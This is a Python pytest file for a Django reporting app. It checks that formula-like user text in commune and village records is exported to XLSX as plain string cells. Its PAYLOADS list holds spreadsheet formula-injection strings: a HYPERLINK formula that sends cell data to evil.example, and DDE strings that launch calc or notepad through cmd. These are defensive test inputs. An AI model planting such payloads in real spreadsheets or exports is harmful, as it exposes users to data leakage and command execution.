"""Text that starts like a formula is written to the XLSX as a string cell and comes back
unchanged (the choice: the type is set explicitly, no OWASP quote prefix is added)."""

import datetime
import io

import openpyxl
import pytest
from django.db import transaction

from criteria.models import Indicator
from plans.models import Milestone, ResourceItem, Task
from reports.builders import (
    monthly_report_data,
    quarterly_report_data,
    render_monthly_xlsx,
    render_quarterly_xlsx,
)
from submissions.models import Submission
from villages.models import Commune, ResponsibleBody, Village

pytestmark = pytest.mark.django_db  # so that the session sets the database up

MARCH = datetime.date(2024, 3, 1)
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!'A1'",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def plant() -> None:
    commune = Commune.objects.get(name="Quang Trung")
    Commune.objects.filter(pk=commune.pk).update(superior_body=PAYLOADS[0])
    Submission.objects.filter(body__commune=commune, month=MARCH).update(
        results=PAYLOADS[0], difficulties=PAYLOADS[1], proposals=PAYLOADS[3]
    )
    ResponsibleBody.objects.filter(commune=commune, name="Hội Nông dân xã").update(name=PAYLOADS[2])
    Village.objects.filter(name="Hợp Lộc").update(name=PAYLOADS[4])
    Indicator.objects.filter(code="17.1").update(name=PAYLOADS[1])
    Task.objects.filter(plan__year=2024).update(title=PAYLOADS[2])  # no unique title
    item = ResourceItem.objects.filter(plan__year=2024).order_by("pk").first()
    ResourceItem.objects.filter(pk=item.pk).update(name=PAYLOADS[3])
    Milestone.objects.filter(plan__year=2024).update(description=PAYLOADS[5])


@pytest.fixture(scope="module")
def workbooks(django_db_setup, django_db_blocker):
    with django_db_blocker.unblock(), transaction.atomic():
        plant()
        commune = Commune.objects.select_related("criteria_set", "province").get(name="Quang Trung")
        monthly = render_monthly_xlsx(monthly_report_data(commune, MARCH))
        quarterly = render_quarterly_xlsx(quarterly_report_data(commune, 2024, 1))
        transaction.set_rollback(True)
    return {
        "monthly": openpyxl.load_workbook(io.BytesIO(monthly)),
        "quarterly": openpyxl.load_workbook(io.BytesIO(quarterly)),
    }


SHEETS = [
    ("monthly", "Tổng hợp"),
    ("monthly", "Tiêu chí"),
    ("monthly", "Theo thôn"),
    ("monthly", "Nhiệm vụ"),
    ("monthly", "Nguồn lực"),
    ("monthly", "Báo cáo đơn vị"),
    ("quarterly", "Kế hoạch"),
    ("quarterly", "Nhiệm vụ quý 1"),
    ("quarterly", "Nhiệm vụ cả năm"),
    ("quarterly", "Tiêu chí"),
    ("quarterly", "Nguồn lực"),
]


def read_back(text: str) -> str:
    # XML keeps no bare carriage return: openpyxl reads it back as a newline.
    return text.replace("\r", "\n")


# Resources by source: labels and amounts only, no text a user typed.
NO_USER_TEXT = {"Nguồn lực"}


@pytest.mark.parametrize(("book", "sheet"), SHEETS)
def test_text_that_looks_like_a_formula_is_a_string_cell(workbooks, book, sheet):
    cells = [cell for row in workbooks[book][sheet].iter_rows() for cell in row]
    # Kept as typed; some openpyxl versions read a bare carriage return back as a newline.
    expected = set(PAYLOADS) | {read_back(p) for p in PAYLOADS}
    planted = [c for c in cells if isinstance(c.value, str) and c.value in expected]
    assert planted or sheet in NO_USER_TEXT, "the sheet shows none of the planted texts"
    assert all(cell.data_type == "s" for cell in planted)
    assert not [c.coordinate for c in cells if c.data_type == "f"]


def test_a_formula_cell_would_be_written_without_the_helper():
    """The check above can fail: openpyxl alone types such text as a formula."""
    sheet = openpyxl.Workbook().active
    sheet["A1"] = PAYLOADS[0]
    assert sheet["A1"].data_type == "f"
